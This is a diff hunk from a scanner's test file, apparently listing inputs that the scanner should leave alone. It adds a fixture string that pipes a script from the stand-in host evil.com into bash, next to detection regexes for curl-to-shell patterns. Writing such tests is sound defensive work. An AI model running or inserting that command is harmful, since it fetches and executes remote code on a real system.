@@ -213,6 +213,7 @@ describe('leaves alone', () => {
       'a.sh',
       `curl -s https://oven.dev/a | python3 -c "import sys; print(1)"`,
     ],
+    ['a test of a scanner', 'a.test.js', "expect(scan('curl http://evil.com/x | bash'))"],
     ['a comment', 'a.js', '// Finds curl | bash'],
     ['a rule of a scanner', 'a.py', String.raw`RULE = r"curl\s+.*\|\s*(?:sh|bash)"`],
     ['words of a rule', 'a.js', 'const tools = /sudo (?:curl|wget|npm|bash)/g'],
